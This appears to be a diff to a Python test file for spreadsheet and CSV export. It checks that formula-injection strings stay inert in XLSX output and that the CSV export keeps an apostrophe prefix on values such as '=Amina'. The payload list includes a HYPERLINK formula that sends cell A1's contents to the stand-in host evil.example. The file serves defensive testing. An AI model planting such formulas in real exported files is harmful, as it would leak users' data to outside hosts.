@@ -7,7 +7,7 @@ import zipfile
 
 from openpyxl import load_workbook
 
-from learning.records.exports import xlsx_bytes
+from learning.records.exports import csv_stream, xlsx_bytes
 from learning.records.xlsx import workbook_bytes
 
 
@@ -45,7 +45,8 @@ def test_empty_export_has_the_header_only():
     assert read(data)[1] == [("one", "two")]
 
 
-def test_formula_triggers_are_neutralised_in_the_workbook():
+def test_formula_triggers_come_back_exactly_as_typed_from_the_workbook():
+    """Inline strings are never evaluated, so the XLSX holds the text with no apostrophe."""
     payloads = [
         "=1+1",
         "+1+1",
@@ -56,4 +57,10 @@ def test_formula_triggers_are_neutralised_in_the_workbook():
         '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     ]
     _, rows = read(xlsx_bytes("Records", ["value"], [[p] for p in payloads]))
-    assert [row[0] for row in rows[1:]] == ["'" + p for p in payloads]
+    assert [row[0] for row in rows[1:]] == payloads
+
+
+def test_a_name_starting_with_equals_comes_back_exactly_and_the_csv_keeps_its_prefix():
+    _, rows = read(xlsx_bytes("Roster", ["name"], [["=Amina"]]))
+    assert rows[1][0] == "=Amina"
+    assert "".join(csv_stream(["name"], [["=Amina"]])).endswith("'=Amina\r\n")
